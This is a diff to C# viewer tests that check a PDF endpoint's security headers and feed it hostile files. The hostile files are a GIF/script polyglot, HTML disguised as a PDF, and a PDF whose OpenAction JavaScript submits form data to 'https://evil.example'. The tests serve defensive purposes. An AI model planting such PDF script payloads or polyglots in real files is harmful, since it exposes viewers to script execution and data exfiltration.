@@ -74,7 +74,7 @@ sealed class ViewerTests
         var headers = await (await loaded).AllHeadersAsync();
         Assert.That((headers["content-type"], headers["x-content-type-options"], headers["cache-control"]),
             Is.EqualTo(("application/pdf", "nosniff", "no-store")));
-        Assert.That(headers["content-security-policy"], Is.EqualTo("default-src 'none'; frame-ancestors 'self'"));
+        Assert.That(headers["content-security-policy"], Is.EqualTo("default-src 'none'; frame-ancestors 'self'; sandbox allow-scripts"));
         await Expect(frame).ToBeVisibleAsync();
     }
 
@@ -84,7 +84,7 @@ sealed class ViewerTests
         yield return new TestCaseData(gif.Concat(System.Text.Encoding.ASCII.GetBytes($"*/=1;{Script}")).ToArray()).SetArgDisplayNames(
             "GIF with HTML");
         yield return new TestCaseData(Papers.Pdf("x",
-            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example'\\)) >>"))
+            $"/OpenAction << /S /JavaScript /JS (app.alert\\('{Officer.OfViewer}'\\); this.submitForm\\('https://evil.example'\\)) >>"))
             .SetArgDisplayNames("PDF with script");
         yield return new TestCaseData(System.Text.Encoding.ASCII.GetBytes($"<html>{Script}<!-- ").Concat(Papers.Pdf("x")).ToArray())
             .SetArgDisplayNames("HTML that is a PDF");
